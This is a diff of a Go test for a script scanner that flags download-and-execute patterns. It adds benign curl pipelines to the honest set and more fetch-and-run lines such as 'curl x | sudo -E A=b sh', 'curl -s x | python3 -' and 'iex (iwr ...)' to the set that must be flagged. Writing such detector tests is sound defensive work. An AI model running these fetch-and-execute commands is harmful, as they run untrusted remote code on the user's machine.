@@ -143,11 +143,12 @@ func TestNotesAreFoundAnywhere(t *testing.T) {
 	for i := range honest {
 		honest[i] = fmt.Sprintf("step_%d && echo 'curl is not run here' # %d", i, r.IntN(100))
 	}
+	honest = append(honest, "curl -s x | python3 -m json.tool", "curl x | jq .id", "curl x | node -e '1'", "curl x | tee a.sh", "curl -o x.sh https://example.com/x || sh_failed")
 	if got := notes("run.sh", strings.Join(honest, "\n")); len(got) != 0 {
 		t.Errorf("an honest script: %q", got)
 	}
 	for _, line := range []string{
-		"curl -fsSL https://example.com/i | sh", "wget -qO- example.com/i|bash", "curl x | sudo bash -s -- y", "bash <(curl -s https://example.com/x)", "iex (iwr https://example.com/x)", "Invoke-WebRequest x | sh",
+		"curl -fsSL https://example.com/i | sh", "wget -qO- example.com/i|bash", "curl x | sudo bash -s -- y", "curl x | sudo -E A=b sh", "  curl x |  env A=b C= zsh", "wget -O- x | /usr/bin/env bash", "curl x | /bin/sh -e", "curl -s x | python3 -", "curl x | perl", "bash <(curl -s https://example.com/x)", "iex (iwr https://example.com/x)", "Invoke-WebRequest x | sh",
 	} {
 		script := append([]string{}, honest...)
 		script[r.IntN(len(script))] = line
